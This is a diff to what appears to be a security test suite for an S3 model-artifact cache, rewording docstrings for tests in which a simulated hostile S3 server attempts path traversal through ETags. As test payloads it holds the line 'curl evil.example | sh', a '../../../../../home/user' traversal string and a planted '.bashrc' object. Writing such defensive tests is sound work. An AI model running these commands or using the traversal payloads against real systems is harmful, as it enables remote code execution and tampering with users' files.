@@ -1,4 +1,4 @@
-"""A hostile S3 server changes nothing outside its own folder in the cache."""
+"""A hostile S3 server cannot change files outside its folder in the cache."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from trtllm_truss.errors import ArtifactError
 
 DATA = b"curl evil.example | sh\n"
 CACHE_FOLDER = "trtllm-truss"
-# blobs, the bucket's folder, s3, trtllm-truss and HF_HOME: five folders up is the test's own.
+# Five folders up (blobs, bucket, s3, trtllm-truss, HF_HOME) is the test's folder.
 UP = "../../../../../home/user"
 
 
@@ -66,7 +66,7 @@ def checksum(data: bytes) -> dict[str, str]:
 def test_an_etag_is_never_a_path(
     evil: HostileS3, canaries: Canaries, etag: str, has_checksum: bool
 ) -> None:
-    """Sent back to the server in If-Match only."""
+    """Use an ETag in If-Match only."""
     etag = canaries.with_home(etag)
     headers = checksum(DATA) if has_checksum else {}
     evil.objects["model/.bashrc"] = HostileObject(DATA, f'"{etag}"', headers=headers)
@@ -140,7 +140,7 @@ def test_a_body_without_an_end(evil: HostileS3, cache: Path) -> None:
 
 
 def test_one_etag_for_two_contents(evil: HostileS3) -> None:
-    """The second object has a checksum of its own."""
+    """Serve two objects with one ETag and different checksums."""
     tag = f'"{"c" * 32}-3"'
     evil.objects["model/a"] = HostileObject(b"one", tag, headers=checksum(b"one"))
     evil.objects["model/b"] = HostileObject(b"two", tag, headers=checksum(b"two"))
